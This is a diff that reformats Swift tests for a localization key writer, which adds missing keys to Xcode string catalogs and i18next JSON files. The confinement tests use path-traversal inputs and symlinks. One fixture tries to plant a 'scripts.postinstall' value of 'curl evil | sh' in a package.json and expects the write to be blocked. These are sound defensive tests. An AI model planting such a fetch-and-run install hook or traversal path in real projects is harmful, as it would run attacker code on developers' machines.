@@ -1,14 +1,18 @@
 import AppleLocalization
 import Foundation
-@testable import KeyExtraction
 import Testing
+
+@testable import KeyExtraction
 
 @Suite("--write: keys added to catalogs and i18next files")
 struct KeyWriterTests {
-    static func missing(_ key: String, _ system: KeyUsage.System = .apple, form: String = "String(localized:)",
-                        value: String? = nil, comment: String? = nil) -> MissingKey {
-        let usage = KeyUsage(system: system, key: key, table: system == .apple ? "Localizable" : "translation",
-                             comment: comment, defaultValue: value, form: form, file: "App.swift", line: 1, column: 1)
+    static func missing(
+        _ key: String, _ system: KeyUsage.System = .apple, form: String = "String(localized:)",
+        value: String? = nil, comment: String? = nil
+    ) -> MissingKey {
+        let usage = KeyUsage(
+            system: system, key: key, table: system == .apple ? "Localizable" : "translation",
+            comment: comment, defaultValue: value, form: form, file: "App.swift", line: 1, column: 1)
         return MissingKey(usage: usage, uses: 1, defaultValue: value, comment: comment)
     }
 
@@ -32,12 +36,13 @@ struct KeyWriterTests {
         let resources = try directory.copy(fixture: "Resources")
         let path = resources + "/Localizable.xcstrings"
         let before = try String(contentsOfFile: path, encoding: .utf8)
-        let added = try CatalogKeyWriter.add([
-            Self.missing("b.with.value", value: "With \"value\"", comment: "Shown: here"),
-            Self.missing("zz.plain", form: "Text"),
-            Self.missing("envtool.key", form: "localizedString"),
-            Self.missing("files_count"),
-        ], to: "Localizable.xcstrings", under: resources, sourceLanguage: "fr")
+        let added = try CatalogKeyWriter.add(
+            [
+                Self.missing("b.with.value", value: "With \"value\"", comment: "Shown: here"),
+                Self.missing("zz.plain", form: "Text"),
+                Self.missing("envtool.key", form: "localizedString"),
+                Self.missing("files_count"),
+            ], to: "Localizable.xcstrings", under: resources, sourceLanguage: "fr")
         #expect(added == ["b.with.value", "zz.plain", "envtool.key"])
         let after = try String(contentsOfFile: path, encoding: .utf8)
         #expect(Self.onlyInserted(before, after))
@@ -72,7 +77,9 @@ struct KeyWriterTests {
     func malformedCatalog() {
         let directory = TemporaryDirectory()
         _ = directory.write("Localizable.xcstrings", "{\"sourceLanguage\": \"en\", \"strings\": {")
-        #expect(throws: CatalogKeyWriter.Failure.self) { try CatalogKeyWriter.add([Self.missing("k")], to: "Localizable.xcstrings", under: directory.path, sourceLanguage: "en") }
+        #expect(throws: CatalogKeyWriter.Failure.self) {
+            try CatalogKeyWriter.add([Self.missing("k")], to: "Localizable.xcstrings", under: directory.path, sourceLanguage: "en")
+        }
         #expect(directory.read("Localizable.xcstrings") == "{\"sourceLanguage\": \"en\", \"strings\": {")
     }
 
@@ -81,15 +88,17 @@ struct KeyWriterTests {
         let directory = TemporaryDirectory()
         let resources = try directory.copy(fixture: "Resources")
         let path = resources + "/locales/en/translation.json"
-        let result = try ResourceKeyWriter.add([
-            Self.missing("app.subtitle", .i18next, value: "Sub"),
-            Self.missing("brand.new.key", .i18next),
-            Self.missing("orphan.child", .i18next),
-            Self.missing("app.title", .i18next),
-        ], to: "en/translation.json", under: resources + "/locales")
+        let result = try ResourceKeyWriter.add(
+            [
+                Self.missing("app.subtitle", .i18next, value: "Sub"),
+                Self.missing("brand.new.key", .i18next),
+                Self.missing("orphan.child", .i18next),
+                Self.missing("app.title", .i18next),
+            ], to: "en/translation.json", under: resources + "/locales")
         #expect(result.added == ["app.subtitle", "brand.new.key"])
         #expect(result.skipped.count == 1)
-        #expect(result.skipped.first?.message == "\"orphan.child\" was not added: \"orphan\" is already a value, not an object; rename the key or move the value")
+        #expect(
+            result.skipped.first?.message == "\"orphan.child\" was not added: \"orphan\" is already a value, not an object; rename the key or move the value")
         let object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])
         #expect((object["app"] as? [String: String]) == ["title": "Demo", "welcome": "Welcome", "subtitle": "Sub"])
         #expect(((object["brand"] as? [String: Any])?["new"] as? [String: String]) == ["key": "brand.new.key"])
@@ -104,12 +113,14 @@ struct KeyWriterTests {
     @Test("a namespace without a file gets one, in a language folder created for it")
     func newResource() throws {
         let directory = TemporaryDirectory()
-        #expect(try ResourceKeyWriter.add([Self.missing("hi", .i18next, value: "Salut")], to: "fr/common.json", under: directory.path + "/locales").added == ["hi"])
+        #expect(
+            try ResourceKeyWriter.add([Self.missing("hi", .i18next, value: "Salut")], to: "fr/common.json", under: directory.path + "/locales").added == ["hi"])
         #expect(directory.read("locales/fr/common.json") == "{\n  \"hi\": \"Salut\"\n}\n")
     }
 
-    @Test("a path that leaves the folder, or passes a link inside it, is a write failure and nothing is written or read through it",
-          arguments: ["../outside.json", "en/../../outside.json", "/etc/outside.json", "en//x.json", "./x.json"])
+    @Test(
+        "a path that leaves the folder, or passes a link inside it, is a write failure and nothing is written or read through it",
+        arguments: ["../outside.json", "en/../../outside.json", "/etc/outside.json", "en//x.json", "./x.json"])
     func confinedPaths(_ relativePath: String) throws {
         let directory = TemporaryDirectory()
         let locales = directory.path + "/project/locales"
@@ -137,10 +148,12 @@ struct KeyWriterTests {
         _ = directory.write("outside/package.json", "{\"name\": \"app\"}\n")
         try FileManager.default.createDirectory(atPath: directory.path + "/locales/fr", withIntermediateDirectories: true)
         try FileManager.default.createSymbolicLink(atPath: directory.path + "/locales/en", withDestinationPath: directory.path + "/outside")
-        try FileManager.default.createSymbolicLink(atPath: directory.path + "/locales/fr/translation.json", withDestinationPath: directory.path + "/outside/package.json")
+        try FileManager.default.createSymbolicLink(
+            atPath: directory.path + "/locales/fr/translation.json", withDestinationPath: directory.path + "/outside/package.json")
         for relativePath in ["en/package.json", "fr/translation.json"] {
             #expect(throws: ResourceKeyWriter.Failure.self) {
-                try ResourceKeyWriter.add([Self.missing("scripts.postinstall", .i18next, value: "curl evil | sh")], to: relativePath, under: directory.path + "/locales")
+                try ResourceKeyWriter.add(
+                    [Self.missing("scripts.postinstall", .i18next, value: "curl evil | sh")], to: relativePath, under: directory.path + "/locales")
             }
         }
         #expect(directory.read("outside/package.json") == "{\"name\": \"app\"}\n")
